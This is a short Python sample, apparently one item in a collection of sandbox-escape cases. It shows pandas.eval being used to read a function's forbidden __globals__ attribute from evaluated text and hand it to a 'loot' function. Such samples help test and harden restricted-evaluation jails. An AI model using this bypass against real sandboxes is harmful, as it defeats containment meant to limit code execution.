# aim: read a forbidden attribute in evaluated text
# mechanism: pandas.eval
# language: builtins
# reason: the library evaluates text unguarded
# jail: process
# plain: loot
# imports: pandas

import json

import pandas

kept = []


def keep(thing):
    kept.append(thing)
    return 1


pandas.eval("keep(function.__globals__)", local_dict={"keep": keep, "function": json.dumps})
loot(kept[0])
